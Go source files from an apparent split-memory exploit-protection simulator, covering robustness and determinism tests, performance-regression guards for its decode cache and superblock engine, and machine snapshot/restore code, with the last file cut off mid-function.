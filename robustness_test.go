package splitmem_test

// Robustness: the simulator must never panic, whatever a guest does — random
// byte soup as code, every protection x response combination against every
// scenario, deterministic event streams.

import (
	"bytes"
	"encoding/json"
	"fmt"
	"math/rand"
	"testing"

	"splitmem"
	"splitmem/internal/attacks"
)

// validStop asserts Run returned one of the orderly stop reasons —
// anything else (ReasonInternalError, a zero value) means the kernel lost
// control of the simulation.
func validStop(t *testing.T, res splitmem.RunResult) {
	t.Helper()
	switch res.Reason {
	case splitmem.ReasonAllDone, splitmem.ReasonWaitingInput,
		splitmem.ReasonBudget, splitmem.ReasonDeadlock:
	case splitmem.ReasonInternalError:
		t.Fatalf("kernel panicked: %s\n%s", res.Panic, res.Stack)
	default:
		t.Fatalf("invalid stop reason %v", res.Reason)
	}
}

// wellFormedLog asserts the event log renders as parseable JSON Lines.
func wellFormedLog(t *testing.T, m *splitmem.Machine) {
	t.Helper()
	raw, err := m.EventsJSONL()
	if err != nil {
		t.Fatalf("EventsJSONL: %v", err)
	}
	for i, line := range bytes.Split(bytes.TrimRight(raw, "\n"), []byte("\n")) {
		if len(line) == 0 {
			continue
		}
		var ev map[string]any
		if err := json.Unmarshal(line, &ev); err != nil {
			t.Fatalf("event log line %d is not JSON: %v\n%s", i, err, line)
		}
		if _, ok := ev["kind"]; !ok {
			t.Fatalf("event log line %d has no kind: %s", i, line)
		}
	}
}

// TestRandomCodeNeverPanics: execute pages of random bytes under every
// protection. The guest may crash (that is the point of the machine's fault
// model); the host must not.
func TestRandomCodeNeverPanics(t *testing.T) {
	prots := []splitmem.Protection{
		splitmem.ProtNone, splitmem.ProtNX, splitmem.ProtSplit, splitmem.ProtSplitNX,
	}
	rng := rand.New(rand.NewSource(2026))
	for trial := 0; trial < 24; trial++ {
		blob := make([]byte, 512)
		rng.Read(blob)
		// Assemble a SELF image whose text section is raw random bytes by
		// emitting them as .byte directives.
		src := ".text 0x08048000\n_start:\n"
		for i, b := range blob {
			if i%16 == 0 {
				src += ".byte "
			}
			src += fmt.Sprintf("0x%02x", b)
			if i%16 == 15 || i == len(blob)-1 {
				src += "\n"
			} else {
				src += ", "
			}
		}
		prot := prots[trial%len(prots)]
		m, err := splitmem.New(splitmem.Config{Protection: prot, Seed: int64(trial), Paranoid: true})
		if err != nil {
			t.Fatal(err)
		}
		p, err := m.LoadAsm(src, "chaos")
		if err != nil {
			t.Fatal(err)
		}
		p.StdinClose()
		res := m.Run(2_000_000) // random code may loop; budget it
		validStop(t, res)
		wellFormedLog(t, m)
		if n := len(m.EventsOf(splitmem.EvInvariantViolation)); n != 0 {
			t.Fatalf("trial %d (%v): %d invariant violations", trial, prot, n)
		}
		// The guest either ran out of budget still alive or reached a
		// definite fate; Alive and Killed/Exited must agree.
		killed, _ := p.Killed()
		exited, _ := p.Exited()
		if p.Alive() == (killed || exited) {
			t.Fatalf("trial %d: inconsistent process state alive=%v killed=%v exited=%v",
				trial, p.Alive(), killed, exited)
		}
	}
}

// TestScenarioMatrix: all five real-world scenarios under every
// protection/response combination. Invariants: exploits always succeed
// unprotected, never under split memory, and the machine always terminates.
func TestScenarioMatrix(t *testing.T) {
	if testing.Short() {
		t.Skip("matrix is broad")
	}
	responses := []splitmem.ResponseMode{splitmem.Break, splitmem.Observe, splitmem.Forensics, splitmem.Recovery}
	for _, sc := range attacks.Scenarios() {
		for _, prot := range []splitmem.Protection{splitmem.ProtNone, splitmem.ProtNX, splitmem.ProtSplit} {
			for _, resp := range responses {
				name := fmt.Sprintf("%s/%v/%v", sc.Key, prot, resp)
				t.Run(name, func(t *testing.T) {
					cfg := splitmem.Config{Protection: prot, Response: resp, Paranoid: true}
					if resp == splitmem.Forensics {
						cfg.ForensicShellcode = splitmem.ExitShellcode()
					}
					r, err := attacks.RunScenario(sc.Key, cfg)
					if err != nil {
						t.Fatal(err)
					}
					if r.InvariantViolations != 0 {
						t.Fatalf("%d invariant violations under paranoid audit", r.InvariantViolations)
					}
					switch prot {
					case splitmem.ProtNone:
						if !r.Succeeded() {
							t.Fatalf("unprotected exploit failed: %+v", r)
						}
					case splitmem.ProtSplit:
						// Observe mode deliberately lets the attack through;
						// every other response must stop it.
						if resp != splitmem.Observe && r.Succeeded() {
							t.Fatalf("split/%v: exploit succeeded: %+v", resp, r)
						}
						if resp == splitmem.Observe && !r.Succeeded() {
							t.Fatalf("split/observe should let it continue: %+v", r)
						}
						if !r.Detected {
							t.Fatalf("split/%v: no detection event: %+v", resp, r)
						}
					case splitmem.ProtNX:
						if r.Succeeded() {
							t.Fatalf("nx: exploit succeeded: %+v", r)
						}
					}
				})
			}
		}
	}
}

// TestDeterminism: two identical runs of a nontrivial attack produce
// byte-identical event streams and identical final statistics (the whole
// simulator, chaos engine included, is deterministic by construction).
func TestDeterminism(t *testing.T) {
	for _, tc := range []struct {
		name string
		cfg  splitmem.Config
	}{
		{"forensics", splitmem.Config{
			Protection: splitmem.ProtSplit, Response: splitmem.Forensics,
			ForensicShellcode: splitmem.ExitShellcode(),
		}},
		{"paranoid-chaos", splitmem.Config{
			Protection: splitmem.ProtSplit, Response: splitmem.Break,
			Paranoid: true, Chaos: splitmem.ChaosDefaults(),
		}},
	} {
		t.Run(tc.name, func(t *testing.T) {
			run := func() attacks.Result {
				r, err := attacks.RunScenario("miniwuftp", tc.cfg)
				if err != nil {
					t.Fatal(err)
				}
				return r
			}
			r1, r2 := run(), run()
			if r1.Output != r2.Output {
				t.Fatalf("divergent output:\n%q\nvs\n%q", r1.Output, r2.Output)
			}
			if !bytes.Equal(r1.EventsJSONL, r2.EventsJSONL) {
				t.Fatalf("divergent event streams:\n%s\nvs\n%s", r1.EventsJSONL, r2.EventsJSONL)
			}
			if r1.Stats != r2.Stats {
				t.Fatalf("divergent final stats:\n%+v\nvs\n%+v", r1.Stats, r2.Stats)
			}
		})
	}
}

// TestDifferentialTransparency generates random (well-formed) guest
// programs and requires bit-identical architectural outcomes — exit status
// and output — across every protection configuration. The virtual Harvard
// architecture must be invisible to legitimate code in all its variants.
func TestDifferentialTransparency(t *testing.T) {
	configs := []splitmem.Config{
		{Protection: splitmem.ProtNone},
		{Protection: splitmem.ProtNX},
		{Protection: splitmem.ProtSplit, Paranoid: true},
		{Protection: splitmem.ProtSplit, SoftTLB: true, Paranoid: true},
		{Protection: splitmem.ProtSplit, LazyTwins: true, Paranoid: true},
		{Protection: splitmem.ProtSplitNX, SplitFraction: 0.5, Seed: 3, Paranoid: true},
	}
	rng := rand.New(rand.NewSource(4242))
	ops := []string{
		"add e%s, %d", "sub e%s, %d", "xor e%s, %d", "mul e%s, %d",
		"and e%s, %d", "or e%s, %d", "shl e%s, %d8", "shr e%s, %d8",
	}
	regs := []string{"ax", "bx", "si", "di"}
	for trial := 0; trial < 10; trial++ {
		// A random straight-line arithmetic program that stores and reloads
		// intermediates through memory, then exits with a checksum.
		src := "_start:\n"
		src += "    mov eax, 1\n    mov ebx, 2\n    mov esi, 3\n    mov edi, 4\n"
		for i := 0; i < 30; i++ {
			op := ops[rng.Intn(len(ops))]
			reg := regs[rng.Intn(len(regs))]
			val := rng.Intn(1 << 16)
			if op[len(op)-1] == '8' {
				src += fmt.Sprintf("    "+op[:len(op)-1]+"\n", reg, val%31+1)
			} else {
				src += fmt.Sprintf("    "+op+"\n", reg, val)
			}
			if i%5 == 4 {
				slot := rng.Intn(8) * 4
				src += fmt.Sprintf("    mov ecx, scratch\n    store [ecx+%d], e%s\n", slot, reg)
				src += fmt.Sprintf("    load e%s, [ecx+%d]\n", regs[rng.Intn(len(regs))], slot)
			}
		}
		src += `
    add eax, ebx
    add eax, esi
    add eax, edi
    and eax, 0x7f
    mov ebx, eax
    mov eax, 1
    int 0x80
.data
scratch: .space 64
`
		var statuses []int
		for _, cfg := range configs {
			m, err := splitmem.New(cfg)
			if err != nil {
				t.Fatal(err)
			}
			p, err := m.LoadAsm(src, "diff")
			if err != nil {
				t.Fatal(err)
			}
			res := m.Run(10_000_000)
			if res.Reason != splitmem.ReasonAllDone {
				t.Fatalf("trial %d cfg %+v: %v", trial, cfg, res.Reason)
			}
			if n := len(m.EventsOf(splitmem.EvInvariantViolation)); n != 0 {
				t.Fatalf("trial %d cfg %+v: %d invariant violations", trial, cfg, n)
			}
			exited, status := p.Exited()
			if !exited {
				t.Fatalf("trial %d cfg %+v: not exited", trial, cfg)
			}
			statuses = append(statuses, status)
		}
		for i := 1; i < len(statuses); i++ {
			if statuses[i] != statuses[0] {
				t.Fatalf("trial %d: divergent outcomes %v across configs", trial, statuses)
			}
		}
	}
}
