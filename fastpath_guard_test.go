package splitmem_test

// CI guards for the predecode fast path.
//
// TestFastPathNoRegression pins the deterministic side: work per simulated
// megacycle for each fast-path workload, compared against the committed
// BENCH_results.json ("fastpath-sim" figure). The simulator is deterministic
// and the metric is host-independent, so a >10% drop is a real throughput
// regression in the simulated architecture, never measurement noise.
//
// TestFastPathSpeedupGuard checks the host side — the speedup the decode
// cache actually buys — and is env-gated because host timing is noisy on
// shared runners:
//
//	SPLITMEM_FASTPATH_GUARD=1 go test -run TestFastPathSpeedupGuard -v .

import (
	"encoding/json"
	"os"
	"testing"

	"splitmem"
	"splitmem/internal/bench"
	"splitmem/internal/workloads"
)

// fastPathSpeedupFloor is the minimum acceptable host speedup from the
// decode cache on the compute-bound workloads (measured ~1.9-2.1x; the
// floor leaves headroom for slow CI hosts).
const fastPathSpeedupFloor = 1.3

// simThroughput runs one cataloged workload under the split engine and
// returns its deterministic work per simulated megacycle.
func simThroughput(t *testing.T, name string) float64 {
	t.Helper()
	prog, ok := workloads.Lookup(name)
	if !ok {
		t.Fatalf("unknown workload %q in golden figure", name)
	}
	m, err := splitmem.New(splitmem.Config{Protection: splitmem.ProtSplit})
	if err != nil {
		t.Fatal(err)
	}
	p, err := m.LoadAsm(prog.Src, name)
	if err != nil {
		t.Fatal(err)
	}
	if prog.Input != "" {
		p.StdinWrite([]byte(prog.Input))
		p.StdinClose()
	}
	if res := m.Run(40_000_000_000); res.Reason != splitmem.ReasonAllDone {
		t.Fatalf("%s stopped: %v", name, res.Reason)
	}
	cycles := m.Stats().Cycles
	if cycles == 0 {
		t.Fatalf("%s retired no cycles", name)
	}
	return prog.Work / (float64(cycles) / 1e6)
}

func TestFastPathNoRegression(t *testing.T) {
	if testing.Short() {
		t.Skip("runs guest workloads")
	}
	raw, err := os.ReadFile("BENCH_results.json")
	if err != nil {
		t.Fatalf("committed benchmark baseline missing (%v); regenerate with: "+
			"go run ./cmd/splitmem-bench -all -json BENCH_results.json", err)
	}
	var res bench.Results
	if err := json.Unmarshal(raw, &res); err != nil {
		t.Fatal(err)
	}
	if res.Schema != bench.ResultsSchema {
		t.Fatalf("baseline schema %q, want %q", res.Schema, bench.ResultsSchema)
	}
	var golden *bench.SeriesResult
	for i := range res.Figures {
		if res.Figures[i].ID != "fastpath-sim" {
			continue
		}
		for j := range res.Figures[i].Series {
			if s := &res.Figures[i].Series[j]; s.Name == "sim work/Mcycle (cache on)" {
				golden = s
			}
		}
	}
	if golden == nil || len(golden.Labels) == 0 {
		t.Fatal(`baseline has no "fastpath-sim" sim series; regenerate BENCH_results.json`)
	}
	for i, name := range golden.Labels {
		want := golden.Values[i]
		got := simThroughput(t, name)
		switch {
		case got < 0.9*want:
			t.Errorf("%s: compute throughput regressed >10%%: %.3f work/Mcycle, baseline %.3f",
				name, got, want)
		case got > 1.1*want:
			t.Errorf("%s: throughput improved >10%% (%.3f vs %.3f) — re-pin the baseline "+
				"with: go run ./cmd/splitmem-bench -all -json BENCH_results.json", name, got, want)
		default:
			t.Logf("%s: %.3f work/Mcycle (baseline %.3f)", name, got, want)
		}
	}
}

func TestFastPathSpeedupGuard(t *testing.T) {
	if os.Getenv("SPLITMEM_FASTPATH_GUARD") == "" {
		t.Skip("host-timing guard; set SPLITMEM_FASTPATH_GUARD=1 to run")
	}
	_, runs, err := bench.FastPath()
	if err != nil {
		t.Fatal(err)
	}
	slow := map[string]bench.FastPathRun{}
	for _, r := range runs {
		if !r.Cached {
			slow[r.Workload] = r
		}
	}
	for _, r := range runs {
		if !r.Cached {
			continue
		}
		s, ok := slow[r.Workload]
		if !ok || s.HostMIPS() == 0 {
			t.Fatalf("%s: no slow arm", r.Workload)
		}
		speedup := r.HostMIPS() / s.HostMIPS()
		if r.Workload == "syscall" {
			// Trap-bound, not fetch-bound: the cache helps but the floor
			// only binds the compute workloads.
			t.Logf("%s: %.2fx (informational)", r.Workload, speedup)
			continue
		}
		if speedup < fastPathSpeedupFloor {
			t.Errorf("%s: decode cache buys only %.2fx, floor %.2fx (%.1f vs %.1f MIPS)",
				r.Workload, speedup, fastPathSpeedupFloor, r.HostMIPS(), s.HostMIPS())
		} else {
			t.Logf("%s: %.2fx speedup, %.1f%% hit rate", r.Workload, speedup, 100*r.HitRate)
		}
	}
}
