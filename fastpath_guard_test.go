package splitmem_test

// CI guards for the host fast paths (predecode cache + superblock engine).
//
// TestFastPathNoRegression pins the deterministic side: work per simulated
// megacycle for each fast-path workload, compared against the committed
// BENCH_results.json ("fastpath-sim" figure). The simulator is deterministic
// and the metric is host-independent, so a >10% drop is a real throughput
// regression in the simulated architecture, never measurement noise.
//
// TestFastPathSpeedupGuard and TestSuperblockSpeedupGuard check the host
// side — the speedup each engine tier actually buys — and are env-gated
// because host timing is noisy on shared runners:
//
//	SPLITMEM_FASTPATH_GUARD=1 go test -run 'SpeedupGuard' -v .

import (
	"encoding/json"
	"os"
	"testing"

	"splitmem"
	"splitmem/internal/bench"
	"splitmem/internal/workloads"
)

// fastPathSpeedupFloor is the minimum acceptable host speedup from the
// decode cache over the interpreter on the compute-bound workloads
// (measured ~1.9-2.1x; the floor leaves headroom for slow CI hosts).
const fastPathSpeedupFloor = 1.3

// superblockSpeedupFloor is the minimum acceptable host speedup from the
// superblock engine over the predecode cache on the compute-bound workloads.
const superblockSpeedupFloor = 2.0

// simThroughput runs one cataloged workload under the split engine and
// returns its deterministic work per simulated megacycle.
func simThroughput(t *testing.T, name string) float64 {
	t.Helper()
	prog, ok := workloads.Lookup(name)
	if !ok {
		t.Fatalf("unknown workload %q in golden figure", name)
	}
	m, err := splitmem.New(splitmem.Config{Protection: splitmem.ProtSplit})
	if err != nil {
		t.Fatal(err)
	}
	p, err := m.LoadAsm(prog.Src, name)
	if err != nil {
		t.Fatal(err)
	}
	if prog.Input != "" {
		p.StdinWrite([]byte(prog.Input))
		p.StdinClose()
	}
	if res := m.Run(40_000_000_000); res.Reason != splitmem.ReasonAllDone {
		t.Fatalf("%s stopped: %v", name, res.Reason)
	}
	cycles := m.Stats().Cycles
	if cycles == 0 {
		t.Fatalf("%s retired no cycles", name)
	}
	return prog.Work / (float64(cycles) / 1e6)
}

func TestFastPathNoRegression(t *testing.T) {
	if testing.Short() {
		t.Skip("runs guest workloads")
	}
	raw, err := os.ReadFile("BENCH_results.json")
	if err != nil {
		t.Fatalf("committed benchmark baseline missing (%v); regenerate with: "+
			"go run ./cmd/splitmem-bench -all -json BENCH_results.json", err)
	}
	var res bench.Results
	if err := json.Unmarshal(raw, &res); err != nil {
		t.Fatal(err)
	}
	if res.Schema != bench.ResultsSchema {
		t.Fatalf("baseline schema %q, want %q", res.Schema, bench.ResultsSchema)
	}
	var golden *bench.SeriesResult
	for i := range res.Figures {
		if res.Figures[i].ID != "fastpath-sim" {
			continue
		}
		for j := range res.Figures[i].Series {
			if s := &res.Figures[i].Series[j]; s.Name == "sim work/Mcycle" {
				golden = s
			}
		}
	}
	if golden == nil || len(golden.Labels) == 0 {
		t.Fatal(`baseline has no "fastpath-sim" sim series; regenerate BENCH_results.json`)
	}
	for i, name := range golden.Labels {
		want := golden.Values[i]
		got := simThroughput(t, name)
		switch {
		case got < 0.9*want:
			t.Errorf("%s: compute throughput regressed >10%%: %.3f work/Mcycle, baseline %.3f",
				name, got, want)
		case got > 1.1*want:
			t.Errorf("%s: throughput improved >10%% (%.3f vs %.3f) — re-pin the baseline "+
				"with: go run ./cmd/splitmem-bench -all -json BENCH_results.json", name, got, want)
		default:
			t.Logf("%s: %.3f work/Mcycle (baseline %.3f)", name, got, want)
		}
	}
}

// fastPathRunsByEngine runs the full ablation once and indexes the result.
func fastPathRunsByEngine(t *testing.T) map[string]map[string]bench.FastPathRun {
	t.Helper()
	_, runs, err := bench.FastPath()
	if err != nil {
		t.Fatal(err)
	}
	byEngine := map[string]map[string]bench.FastPathRun{}
	for _, r := range runs {
		if byEngine[r.Engine] == nil {
			byEngine[r.Engine] = map[string]bench.FastPathRun{}
		}
		byEngine[r.Engine][r.Workload] = r
	}
	return byEngine
}

// guardSpeedup checks fast-vs-slow host speedups against a floor on the
// compute-bound workloads (syscall is trap-bound and informational only).
func guardSpeedup(t *testing.T, byEngine map[string]map[string]bench.FastPathRun, fast, slow string, floor float64) {
	t.Helper()
	for name, f := range byEngine[fast] {
		s, ok := byEngine[slow][name]
		if !ok || s.HostMIPS() == 0 {
			t.Fatalf("%s: no %s arm", name, slow)
		}
		speedup := f.HostMIPS() / s.HostMIPS()
		if name == "syscall" {
			t.Logf("%s: %s/%s %.2fx (informational)", name, fast, slow, speedup)
			continue
		}
		if speedup < floor {
			t.Errorf("%s: %s buys only %.2fx over %s, floor %.2fx (%.1f vs %.1f MIPS)",
				name, fast, speedup, slow, floor, f.HostMIPS(), s.HostMIPS())
		} else {
			t.Logf("%s: %s/%s %.2fx speedup", name, fast, slow, speedup)
		}
	}
}

func TestFastPathSpeedupGuard(t *testing.T) {
	if os.Getenv("SPLITMEM_FASTPATH_GUARD") == "" {
		t.Skip("host-timing guard; set SPLITMEM_FASTPATH_GUARD=1 to run")
	}
	guardSpeedup(t, fastPathRunsByEngine(t), "predecode", "interp", fastPathSpeedupFloor)
}

func TestSuperblockSpeedupGuard(t *testing.T) {
	if os.Getenv("SPLITMEM_FASTPATH_GUARD") == "" {
		t.Skip("host-timing guard; set SPLITMEM_FASTPATH_GUARD=1 to run")
	}
	byEngine := fastPathRunsByEngine(t)
	guardSpeedup(t, byEngine, "superblock", "predecode", superblockSpeedupFloor)
	for name, sb := range byEngine["superblock"] {
		if name != "syscall" && sb.SBEntered == 0 {
			t.Errorf("%s: superblock engine never entered a block — guard is vacuous", name)
		}
	}
}
