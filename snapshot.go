package splitmem

// Checkpoint/restore. Snapshot serializes the entire machine — CPU register
// file and counters, every physical frame (including split code/data twins),
// pagetables, both TLBs with their deliberately desynchronized contents and
// restriction state, the kernel (process table, run queue, pipes, event ring
// with lifetime cursors), the protection engine's state, the execution-trace
// ring, and the chaos injector's PRNG stream — such that Restore resumes the
// exact retired-instruction stream the uninterrupted machine would have
// produced. The format is versioned, checksummed (one CRC32 over the whole
// image), and a pure function of machine state: maps are serialized in
// sorted order and the TLBs positionally, so identical machines produce
// identical images.
//
// Deliberately not captured:
//
//   - The predecoded-instruction cache and the superblock engine's compiled
//     blocks: host-side acceleration state, rebuilt on demand. A restored
//     machine starts cold (superblock regions re-prove hotness and
//     recompile); only the host-only Decode*/Superblock* counters can
//     differ from an uninterrupted run.
//   - Telemetry spans and metrics: host-side observability, not guest
//     state. A restored machine starts a fresh timeline.
//   - Config.EventHook: functions don't serialize; pass one to
//     RestoreWithHook to re-attach.

import (
	"fmt"

	"splitmem/internal/mem"
	"splitmem/internal/snapshot"
)

// snapMagic brands a snapshot image; snapVersion is bumped on any format
// change (there is no cross-version decoding — a checkpoint is a short-lived
// crash-recovery artifact, not an archival format).
const (
	snapMagic   = "S86SNAP\x00"
	snapVersion = 2 // v2: NoSuperblocks in the config, Superblock* counters in cpu state
)

// encodeBody serializes the machine's architectural state into w in the
// canonical section order. With frames=true the physical frame contents ride
// along (the Snapshot format); with frames=false only the allocator metadata
// does (the Image meta section — frame contents live in the shared
// mem.Base instead).
func (m *Machine) encodeBody(w *snapshot.Writer, frames bool) {
	encodeConfig(w, &m.cfg)
	m.mach.EncodeState(w)
	if frames {
		m.mach.Phys.EncodeState(w)
	} else {
		m.mach.Phys.EncodeMeta(w)
	}
	m.mach.ITLB.EncodeState(w)
	m.mach.DTLB.EncodeState(w)
	m.kern.EncodeState(w)
	if m.traces != nil {
		m.traces.EncodeState(w)
	}
	if m.inj != nil {
		m.inj.EncodeState(w)
	}
}

// Snapshot serializes the machine's complete architectural state. Call it
// only between Run/RunContext invocations (the scheduler parks the machine
// at a timeslice boundary; mid-Step state is never observable from outside).
//
// Snapshot predates the typed Image API and remains the wire format for
// checkpoints; new code that wants to boot many machines from one parked
// state should prefer Machine.Image / Machine.Fork, which share physical
// frames copy-on-write instead of duplicating them.
func (m *Machine) Snapshot() ([]byte, error) {
	w := snapshot.NewWriter()
	w.Raw([]byte(snapMagic))
	w.U32(snapVersion)
	m.encodeBody(w, true)
	w.U32(snapshot.Checksum(w.Bytes()))
	return w.Bytes(), nil
}

// Restore builds a machine from a Snapshot image. Failures are classified:
// errors.Is(err, snapshot.ErrTruncated / ErrCorrupt / ErrVersion) (via the
// internal snapshot package's sentinels re-exported as SnapshotErr*).
func Restore(image []byte) (*Machine, error) { return RestoreWithHook(image, nil) }

// RestoreWithHook is Restore with an event hook re-attached to the restored
// machine (hooks are functions and cannot live in the image).
func RestoreWithHook(image []byte, hook func(Event)) (*Machine, error) {
	if len(image) < len(snapMagic)+8 {
		return nil, snapshot.ErrTruncated
	}
	if string(image[:len(snapMagic)]) != snapMagic {
		return nil, snapshot.Corruptf("bad magic")
	}
	body := image[:len(image)-4]
	want := snapshot.NewReader(image[len(image)-4:]).U32()
	if got := snapshot.Checksum(body); got != want {
		return nil, snapshot.Corruptf("checksum mismatch: image says %#x, content hashes to %#x", want, got)
	}
	r := snapshot.NewReader(body[len(snapMagic):])
	if v := r.U32(); v != snapVersion {
		return nil, fmt.Errorf("%w: image version %d, this build reads %d", snapshot.ErrVersion, v, snapVersion)
	}
	return decodeBody(r, hook, nil, nil)
}

// decodeBody rebuilds a machine from the canonical section sequence
// (everything after the magic/version header). With base == nil the frame
// contents are read inline (the Snapshot format); with a base the reader
// carries only allocator metadata and the machine attaches to the shared
// frames copy-on-write (the Image format). A non-nil pmeta is a cached decode
// of that allocator metadata (it always comes from a prior decode of the same
// bytes): the byte section is skipped and the allocator installed by copy,
// which is what makes repeated boots from one Image cheap.
func decodeBody(r *snapshot.Reader, hook func(Event), base *mem.Base, pmeta *mem.Meta) (*Machine, error) {
	cfg, err := decodeConfig(r)
	if err != nil {
		return nil, err
	}
	// Sanity-cap image-supplied resource demands before New allocates
	// anything: a hostile image that survives the checksum must not be able
	// to request an absurd machine.
	if cfg.PhysBytes > 1<<30 || cfg.ITLBSize > 1<<20 || cfg.DTLBSize > 1<<20 ||
		cfg.TraceDepth > 1<<24 || cfg.TelemetrySpanCap > 1<<24 {
		return nil, snapshot.Corruptf("image demands an implausible machine (phys %d, tlb %d/%d, trace %d, spans %d)",
			cfg.PhysBytes, cfg.ITLBSize, cfg.DTLBSize, cfg.TraceDepth, cfg.TelemetrySpanCap)
	}
	cfg.EventHook = hook
	// attached tracks a base-refcounted physical memory until the decode is
	// known good, so a boot that fails partway never leaks a Base reference.
	var attached *mem.Physical
	defer func() {
		if attached != nil {
			attached.Close()
		}
	}()
	var bootPhys *mem.Physical
	if base != nil && pmeta != nil {
		bp, err := mem.BootPhysical(base, pmeta)
		if err != nil {
			return nil, snapshot.Corruptf("%v", err)
		}
		bootPhys = bp
		attached = bp
	}
	m, err := newMachine(cfg, bootPhys)
	if err != nil {
		// The checksum passed, so the bytes decode; a config no machine
		// accepts is still a corrupt image from the caller's point of view.
		return nil, snapshot.Corruptf("image config rejected: %v", err)
	}
	if err := m.mach.DecodeState(r); err != nil {
		return nil, err
	}
	switch {
	case base == nil:
		if err := m.mach.Phys.DecodeState(r); err != nil {
			return nil, err
		}
	case pmeta != nil:
		// The machine was built around a prebuilt copy-on-write attachment
		// (bootPhys above); only keep the reader aligned with the canonical
		// section sequence.
		if err := mem.SkipMeta(r); err != nil {
			return nil, err
		}
	default:
		if err := m.mach.Phys.DecodeMeta(r); err != nil {
			return nil, err
		}
		if err := m.mach.Phys.Attach(base); err != nil {
			return nil, snapshot.Corruptf("%v", err)
		}
		attached = m.mach.Phys
	}
	if err := m.mach.ITLB.DecodeState(r); err != nil {
		return nil, err
	}
	if err := m.mach.DTLB.DecodeState(r); err != nil {
		return nil, err
	}
	if err := m.kern.DecodeState(r); err != nil {
		return nil, err
	}
	if m.traces != nil {
		if err := m.traces.DecodeState(r); err != nil {
			return nil, err
		}
	}
	if m.inj != nil {
		if err := m.inj.DecodeState(r); err != nil {
			return nil, err
		}
	}
	if err := r.Err(); err != nil {
		return nil, err
	}
	if r.Remaining() != 0 {
		return nil, snapshot.Corruptf("%d trailing bytes after final section", r.Remaining())
	}
	// Reinstall the interrupted process's address space. No flush: the TLB
	// contents (including deliberate desynchronization) were restored
	// verbatim, and flushing here would destroy exactly the state being
	// restored. When no process was on the CPU the pagetable stays nil and
	// the next switchTo installs one precisely as the uninterrupted run
	// would have.
	if cur := m.kern.Current(); cur != nil {
		m.mach.RestorePagetable(cur.PT)
	} else {
		m.mach.RestorePagetable(nil)
	}
	attached = nil
	return m, nil
}

// Snapshot error sentinels, re-exported so embedders can classify Restore
// failures without importing the internal codec package.
var (
	ErrSnapshotTruncated = snapshot.ErrTruncated
	ErrSnapshotCorrupt   = snapshot.ErrCorrupt
	ErrSnapshotVersion   = snapshot.ErrVersion
)

// SnapshotChecksum computes the integrity hash a valid image carries in its
// trailer (CRC-32/IEEE over everything before it) — exposed for tools and
// tests that inspect or patch images.
func SnapshotChecksum(body []byte) uint32 { return snapshot.Checksum(body) }

// VerifySnapshot checks an image's framing integrity — magic, minimum
// length, and the trailer CRC over the whole body — without decoding any
// state or allocating a machine. It is the cheap transfer-integrity gate for
// checkpoint images shipped between processes (the cluster gateway verifies
// every image it relays, and a replica re-verifies before resuming): a
// corrupt image must be caught here and refetched, never handed to Restore.
func VerifySnapshot(image []byte) error {
	if len(image) < len(snapMagic)+8 {
		return snapshot.ErrTruncated
	}
	if string(image[:len(snapMagic)]) != snapMagic {
		return snapshot.Corruptf("bad magic")
	}
	body := image[:len(image)-4]
	want := snapshot.NewReader(image[len(image)-4:]).U32()
	if got := snapshot.Checksum(body); got != want {
		return snapshot.Corruptf("checksum mismatch: image says %#x, content hashes to %#x", want, got)
	}
	return nil
}

// encodeConfig serializes every Config field except EventHook in a fixed
// order. The config rides inside the image so Restore can rebuild an
// identical machine without the caller re-supplying (and possibly
// mismatching) it.
func encodeConfig(w *snapshot.Writer, cfg *Config) {
	w.Int(int(cfg.Protection))
	w.Int(int(cfg.Response))
	w.F64(cfg.SplitFraction)
	w.Bool(cfg.MixedOnly)
	w.Bool(cfg.ForensicShellcode != nil)
	w.Bytes32(cfg.ForensicShellcode)
	w.Bool(cfg.SoftTLB)
	w.Bool(cfg.LazyTwins)
	w.U64(cfg.Chaos.Seed)
	w.F64(cfg.Chaos.ITLBEvict)
	w.F64(cfg.Chaos.DTLBEvict)
	w.F64(cfg.Chaos.TLBFlush)
	w.F64(cfg.Chaos.StaleTLB)
	w.F64(cfg.Chaos.SpuriousDebug)
	w.F64(cfg.Chaos.DoubleFault)
	w.F64(cfg.Chaos.BitFlip)
	w.F64(cfg.Chaos.Preempt)
	w.Bool(cfg.Paranoid)
	w.U64(cfg.CostModel.Instr)
	w.U64(cfg.CostModel.MemAccess)
	w.U64(cfg.CostModel.TLBWalk)
	w.U64(cfg.CostModel.Trap)
	w.U64(cfg.CostModel.PFBase)
	w.U64(cfg.CostModel.DebugTrap)
	w.U64(cfg.CostModel.Syscall)
	w.U64(cfg.CostModel.CtxSwitch)
	w.U64(cfg.CostModel.IOByte)
	w.U64(cfg.CostModel.DemandFill)
	w.U64(cfg.CostModel.COWCopy)
	w.Int(cfg.ITLBSize)
	w.Int(cfg.DTLBSize)
	w.Int(cfg.PhysBytes)
	w.Bool(cfg.NoDecodeCache)
	w.Bool(cfg.NoSuperblocks)
	w.Int(cfg.TraceDepth)
	w.Bool(cfg.Telemetry)
	w.Int(cfg.TelemetrySpanCap)
	w.U64(cfg.Timeslice)
	w.Bool(cfg.RandomizeStack)
	w.I64(cfg.Seed)
	w.Bool(cfg.TraceSyscalls)
}

func decodeConfig(r *snapshot.Reader) (Config, error) {
	var cfg Config
	cfg.Protection = Protection(r.Int())
	cfg.Response = ResponseMode(r.Int())
	cfg.SplitFraction = r.F64()
	cfg.MixedOnly = r.Bool()
	hasShell := r.Bool()
	cfg.ForensicShellcode = r.Bytes32()
	if !hasShell {
		cfg.ForensicShellcode = nil
	}
	cfg.SoftTLB = r.Bool()
	cfg.LazyTwins = r.Bool()
	cfg.Chaos.Seed = r.U64()
	cfg.Chaos.ITLBEvict = r.F64()
	cfg.Chaos.DTLBEvict = r.F64()
	cfg.Chaos.TLBFlush = r.F64()
	cfg.Chaos.StaleTLB = r.F64()
	cfg.Chaos.SpuriousDebug = r.F64()
	cfg.Chaos.DoubleFault = r.F64()
	cfg.Chaos.BitFlip = r.F64()
	cfg.Chaos.Preempt = r.F64()
	cfg.Paranoid = r.Bool()
	cfg.CostModel.Instr = r.U64()
	cfg.CostModel.MemAccess = r.U64()
	cfg.CostModel.TLBWalk = r.U64()
	cfg.CostModel.Trap = r.U64()
	cfg.CostModel.PFBase = r.U64()
	cfg.CostModel.DebugTrap = r.U64()
	cfg.CostModel.Syscall = r.U64()
	cfg.CostModel.CtxSwitch = r.U64()
	cfg.CostModel.IOByte = r.U64()
	cfg.CostModel.DemandFill = r.U64()
	cfg.CostModel.COWCopy = r.U64()
	cfg.ITLBSize = r.Int()
	cfg.DTLBSize = r.Int()
	cfg.PhysBytes = r.Int()
	cfg.NoDecodeCache = r.Bool()
